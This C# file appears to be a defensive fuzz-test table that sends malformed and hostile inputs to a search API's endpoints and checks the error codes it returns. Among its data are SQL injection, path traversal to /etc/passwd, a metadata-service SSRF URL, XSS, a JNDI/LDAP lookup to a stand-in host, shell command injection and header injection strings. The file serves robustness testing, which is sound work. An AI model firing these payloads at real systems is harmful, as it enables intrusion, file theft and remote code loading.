using System.Globalization;
using System.Text;

namespace SemanticSearch.Tests.Api.Hostile;

/// <summary>One request that a row makes of an operation.</summary>
/// <param name="Target">The address as it is sent.</param>
/// <param name="ContentType">The type of the body.</param>
/// <param name="Body">The body; null for none.</param>
internal sealed record HostileRequest(string Target, string? ContentType = null, byte[]? Body = null);

/// <summary>One thing that goes wrong.</summary>
/// <param name="Name">What it is.</param>
/// <param name="Requests">The requests that it makes of an operation; none where it does not fit.</param>
/// <param name="Codes">The codes of the problems that may answer it; none where any answer will do that is no failure of the service.</param>
/// <param name="Headers">More header lines.</param>
internal sealed record HostileRow(string Name, Func<Operation, IEnumerable<HostileRequest>> Requests, string[] Codes, string Headers = "");

/// <summary>What goes wrong, for every operation that it fits.</summary>
internal static class HostileRows
{
    private const string Json = "application/json";

    private static readonly string Marks = "a" + string.Concat(Enumerable.Repeat("\u0301", 128 << 10));

    public static IReadOnlyList<HostileRow> All { get; } = [.. Names(), .. Encodings(), .. Numbers(), .. Choices(), .. Dates(), .. BadTexts(), .. OddTexts(), .. Paths(), .. Steps(), .. Bodies(), .. Members(), .. Types(), .. Headers()];

    private static IEnumerable<HostileRow> Names() =>
        new[]
        {
            "x=1", "nonsense", "__proto__=1", "constructor=1", "callback=alert(1)", "api_key=x", "_method=DELETE", "%24where=1", "q%5B%5D=1", "q%5B0%5D=1", "%3Bq=1", "q%00=1", "q%0d%0aX:1=1",
            "filter%27--=1", "%3Cscript%3E=1", "..%2f..=1", "%7B%7B7*7%7D%7D=1", "=1", "%20=1", "q%20=1", "LIMIT=1", "%EF%BD%91=1", "%E2%80%AEq=1", new string('n', 1000) + "=1", "debug=true", "output=xml",
        }.Select(name => new HostileRow($"unknown parameter {Short(name)}", operation => operation.Reads ? OfGet(operation, operation.With(name)) : [], ["unknown_parameter"]))
        .Append(new HostileRow("a parameter given twice", operation => operation.Parameters.Where(parameter => !parameter.IsList)
            .SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, $"{Fitting(parameter)}&{parameter.Name}={Fitting(parameter)}"))), ["duplicate_parameter", "bad_cursor"]))
        .Append(new HostileRow("a list that is too long", operation => operation.Parameters.Where(parameter => parameter.IsList)
            .SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, string.Join($"&{parameter.Name}=", Enumerable.Repeat(Fitting(parameter), 501))))), ["too_many_values"]));

    private static IEnumerable<HostileRow> Encodings() =>
        new[] { "q=%", "q=%z", "q=%1", "q=%ff%fe", "q=%c0%af", "q=%ed%a0%80", "q=%f5%80%80%80", "q=%e2%82", "%fe=1", "limit=%80", "q=%u0041" }
            .Select(query => new HostileRow($"not UTF-8: {query}", operation => operation.Reads ? OfGet(operation, operation.With(query)) : [], ["bad_encoding"]));

    private static IEnumerable<HostileRow> Numbers() =>
        new[]
        {
            "NaN", "Infinity", "-Infinity", "1e39", "1e999", "-1e999", "99999999999999999999", "-99999999999999999999", "0x10", "1_000", "1%2C5", "%EF%BC%91", "%D9%A3", "1%20", "--1", "1e", "", "null", "true",
            "1%3BDROP+TABLE+papers", "1%27+OR+%271%27%3D%271", "..%2F1", "%00", "1%00", "%E2%88%9E", "%C2%BD", "1%0d%0a", "%5B1%5D", "%7B%7D", "1e-400x",
        }.Select(value => new HostileRow(
            $"a number that is {value}", operation => operation.Parameters.Where(parameter => parameter.IsNumber).SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, value))),
            ["bad_number", "out_of_range", "empty_parameter"]));

    private static IEnumerable<HostileRow> Choices() =>
        new[] { "HYBRID", "True", "yes", "1", "null", "", "true%20", "hybrid%2Csemantic", "hybrid%00", "%3Cb%3E", "%27+OR+1%3D1", "0", "..%2F", "%EF%BD%94rue" }
            .Select(value => new HostileRow(
                $"a choice that is {value}", operation => operation.Parameters.Where(parameter => parameter.IsChoice).SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, value))),
                ["bad_choice", "bad_flag", "empty_parameter"]));

    private static IEnumerable<HostileRow> Dates() =>
        new[] { "2023-02-29", "0000", "9999", "2023-13", "2023-1-1", "yesterday", "2023-01-01T00:00:00Z", "-2023", "%EF%BC%92023", "2023-00", "2023-01-32", "1e4", "2023%2F01%2F01", "2023-01-01%27--", "", "99999999999" }
            .Select(value => new HostileRow(
                $"a date that is {value}", operation => operation.Parameters.Where(parameter => parameter.IsDate).SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, value))),
                ["bad_date", "empty_parameter"]));

    private static IEnumerable<HostileRow> BadTexts() =>
        new[] { "%00", "a%00b", "a%1bb", "a%7fb", "a%C2%85b", "%08", "", "%20", "%E3%80%80", "%01%02%03" }
            .Select(value => new HostileRow(
                $"a text that is {value}", operation => operation.Parameters.Where(parameter => parameter.IsText).SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, value))),
                ["bad_character", "empty_parameter", "bad_id", "bad_cursor", "bad_choice"]))
            .Append(new HostileRow("a text above its limit", operation => operation.Parameters.Where(parameter => parameter is { IsText: true, MaxLength: < 7000 })
                .SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, new string('a', parameter.MaxLength!.Value + 1)))), ["too_long"]));

    /// <summary>Texts that may well be meant: whatever they do, they must not break anything.</summary>
    private static IEnumerable<HostileRow> OddTexts() =>
        new[]
        {
            "'; DROP TABLE papers; --", "' OR '1'='1", "1 UNION SELECT * FROM sqlite_master", "%' ESCAPE '", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://example.org/a}", "{{7*7}}", "#{7*7}", "%s%s%n", "$(touch /tmp/x)", "`id`", "| cat /etc/passwd", "*", "(a+)+$", "\\", "\"", "\"unbalanced", "-", "+ - OR", "OR OR OR",
            "title:", "title:\"", "author:: :", "((((((((((((((((((((((((((((((", "{\"q\":\"a\"}", "[1,2", "\r\nSet-Cookie: a=b", "\u202Eabc", "a\u200Bb\u200Dc", "\uFEFFa", "\uFFFEa", "\uFFFF", "👩‍👩‍👧‍👦👩‍👩‍👧‍👦", "e" + new string('\u0301', 300), "\uFDFA\uFDFA\uFDFA",
            "$\\frac{a}{b}$ ^ _ ~", new string('a', 500), string.Concat(Enumerable.Repeat("a ", 250)), "𝕒𝕓𝕔", "ﬀ", "İ", "NULL", "undefined", "0", "-0", "1e999",
        }.Select(text => new HostileRow(
            $"an odd text: {Short(text)}", operation => operation.Parameters.Where(parameter => parameter.IsText)
                .SelectMany(parameter => OfGet(operation, operation.WithValue(parameter.Name, Uri.EscapeDataString(parameter.MaxLength is { } most && most < text.Length ? text[..most] : text)))), []));

    private static IEnumerable<HostileRow> Paths() =>
        new[]
        {
            "..%2f..%2fetc%2fpasswd", "%00", "%0d%0aSet-Cookie:a", "%27%20OR%201%3D1", "%ff", "%c0%ae%c0%ae", new string('x', 300), "-1", "1e39", "NaN", "99999999999999999999", "%EF%BC%91", "%3Cscript%3E", "%252f",
            "%5c..%5c", "%3B", "%7B%7B7*7%7D%7D", "%E2%80%AE", "%20", "%ed%a0%80", "null", "*",
        }.Select(value => new HostileRow(
            $"a path with {Short(value)}", operation => operation.Template.Contains('{', StringComparison.Ordinal) ? OfGet(operation, operation.WithPath(value)) : [],
            ["not_found", "paper_not_found", "topic_not_found", "bad_id", "bad_number", "out_of_range", "bad_encoding", "bad_character", "method_not_allowed", "missing_parameter", "unknown_parameter"]));

    /// <summary>Steps within a path are taken before there is an address, so what answers is another one.</summary>
    private static IEnumerable<HostileRow> Steps() => new[] { ".", "..", "%2e", "%2e%2e", "a/../..", "..;" }
        .Select(value => new HostileRow($"a step {value} in a path", operation => operation.Template.Contains('{', StringComparison.Ordinal) ? OfGet(operation, operation.WithPath(value)) : [], []));

    private static IEnumerable<HostileRow> Bodies() =>
        new (string Body, string Code)[]
        {
            ("", "bad_json"), ("{", "bad_json"), ("}", "bad_json"), ("q=a", "bad_json"), ("<q>a</q>", "bad_json"), ("{\"q\":}", "bad_json"), ("{'q':'a'}", "bad_json"), ("{\"q\":\"a\",}", "bad_json"), ("{\"q\":\"a\"}{}", "bad_json"),
            ("{\"q\":NaN}", "bad_json"), ("{\"q\":Infinity}", "bad_json"), ("{\"q\":01}", "bad_json"), ("{\"q\":+1}", "bad_json"), ("{\"q\":\"\\x\"}", "bad_json"), ("{\"q\":\"a\nb\"}", "bad_json"), ("{/*a*/}", "bad_json"), ("\uFEFF{", "bad_json"),
            (new string('[', 100_000), "bad_json"), (Nested(64), "bad_json"), (Nested(50_000), "bad_json"), ("null", "wrong_type"), ("[]", "wrong_type"), ("1e39", "wrong_type"), ("\"q\"", "wrong_type"), ("true", "wrong_type"),
            ("{\"nonsense\":1}", "unknown_parameter"), ("{\"__proto__\":{}}", "unknown_parameter"), ("{\"\":1}", "unknown_parameter"), ("{\"Q\":\"a\"}", "unknown_parameter"), ("{\"$ne\":1}", "unknown_parameter"), ("{\"\\ud800\":1}", "bad_character"),
            ("{\"" + new string('k', 100_000) + "\":1}", "unknown_parameter"), ("{\"\\u0000\":1}", "unknown_parameter"),
        }.Select(row => new HostileRow($"a body that is {Short(row.Body)}", operation => OfBody(operation, Json, Encoding.UTF8.GetBytes(row.Body)), [row.Code]))
        .Append(new HostileRow("a body that is not UTF-8", operation => OfBody(operation, Json, [.. "{\"q\":\""u8, 0xff, 0xfe, .. "\"}"u8]), ["bad_encoding"]))
        .Append(new HostileRow("a body in UTF-16", operation => OfBody(operation, Json, Encoding.Unicode.GetBytes("{\"q\":\"a\"}")), ["bad_json", "bad_encoding"]))
        .Append(new HostileRow("a body that is compressed", operation => OfBody(operation, Json, [0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), ["bad_json", "bad_encoding"]))
        .Append(new HostileRow("a body above a mebibyte", operation => OfBody(operation, Json, new byte[(1 << 20) + 1]), ["body_too_large"]));

    private static IEnumerable<HostileRow> Members() =>
        new (string Name, Func<Described, string?> Value, string[] Codes)[]
        {
            ("null", _ => "null", ["wrong_type"]),
            ("an object", member => member.Type == "object" ? null : "{}", ["wrong_type"]),
            ("a list of lists", _ => "[[[]]]", ["wrong_type"]),
            ("a number in quotes", member => member.IsNumber && !member.IsList ? "\"1\"" : null, ["wrong_type"]),
            ("1e39", member => member.IsNumber && !member.IsList ? "1e39" : null, ["bad_number", "out_of_range"]),
            ("-1e999", member => member.IsNumber && !member.IsList ? "-1e999" : null, ["bad_number", "out_of_range"]),
            ("a hundred digits", member => member.IsNumber && !member.IsList ? new string('9', 100) : null, ["bad_number", "out_of_range"]),
            ("half of a surrogate pair", member => member is { Type: "string", IsList: false } ? "\"a\\ud800b\"" : null, ["bad_character", "bad_choice", "bad_date", "bad_cursor", "bad_id"]),
            ("a NUL", member => member is { Type: "string", IsList: false } ? "\"a\\u0000b\"" : null, ["bad_character", "bad_choice", "bad_date", "bad_cursor", "bad_id"]),
            ("128k combining marks", member => member is { Type: "string", IsList: false } ? $"\"{Marks}\"" : null, ["too_long", "bad_choice", "bad_date", "bad_id"]),
            ("a text in a list member", member => member is { Type: "string", IsList: true } ? "\"a\"" : null, ["wrong_type"]),
            ("a million elements", member => member.IsList ? $"[{string.Join(',', Enumerable.Repeat("1", 300_000))}]" : null, ["too_many_values", "wrong_type"]),
        }.Select(row => new HostileRow($"a member that is {row.Name}", operation => (operation.Members ?? []).SelectMany(member =>
            row.Value(member) is { } value ? OfBody(operation, Json, Encoding.UTF8.GetBytes($"{{\"{member.Name}\":{value}}}")) : []), row.Codes))
        .Append(new HostileRow("a member given twice", operation => (operation.Members ?? []).Where(member => member is { Type: "boolean", IsList: false }).SelectMany(member =>
            OfBody(operation, Json, Encoding.UTF8.GetBytes($"{{\"{member.Name}\":true,\"{member.Name}\":true}}"))), ["duplicate_parameter"]));

    private static IEnumerable<HostileRow> Types() =>
        new[] { null, "", "text/plain", "text/json", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json; charset=\"\"x", "json", "application/jsonx", "*/*" }
            .Select(type => new HostileRow($"the media type {type ?? "none"}", operation => OfBody(operation, type, "{\"q\":\"a\"}"u8.ToArray()), ["unsupported_media_type"]));

    private static IEnumerable<HostileRow> Headers() =>
        new[]
        {
            "If-None-Match: garbage", "If-None-Match: \"", "If-None-Match: " + new string('"', 500), "If-Modified-Since: never", "Range: bytes=0-", "Range: bytes=9-1,,", "Accept-Encoding: bomb;q=9", "Accept-Language: " + new string('x', 4000),
            "X-Forwarded-For: 1.2.3.4, evil", "X-Forwarded-Host: evil.example", "X-Original-URL: /admin", "X-HTTP-Method-Override: DELETE", "Authorization: Basic %%%", "Authorization: Bearer " + new string('k', 8000), "X-Api-Key: " + new string('k', 8000),
            "Cookie: " + new string('c', 8000), "Origin: null", "Origin: https://evil.example", "traceparent: garbage", "traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff", "tracestate: =,=,=", "baggage: a=b,,,=", "Upgrade: h2c", "Content-Type: garbage/;;",
        }.Select(header => new HostileRow($"the header {Short(header)}", operation => OfGet(operation, operation.Right), [], header + "\r\n"));

    private static IEnumerable<HostileRequest> OfGet(Operation operation, string target) => operation.Method == "GET" ? [new HostileRequest(target)] : [];

    private static IEnumerable<HostileRequest> OfBody(Operation operation, string? type, byte[] body) => operation.Members is null ? [] : [new HostileRequest(operation.Path, type, body)];

    private static string Fitting(Described parameter) => parameter.IsNumber ? Math.Max(1, (double?)parameter.Schema["minimum"] ?? 1).ToString(CultureInfo.InvariantCulture) : parameter.IsDate ? "2020" : parameter.Type == "boolean" ? "true" : parameter.IsChoice ? (string)parameter.Schema["enum"]![0]! : "a";

    private static string Nested(int depth) => string.Concat(Enumerable.Repeat("{\"q\":", depth)) + "1" + new string('}', depth);

    private static string Short(string text) => text.Length > 40 ? $"{text[..40]}... ({text.Length})" : text;
}
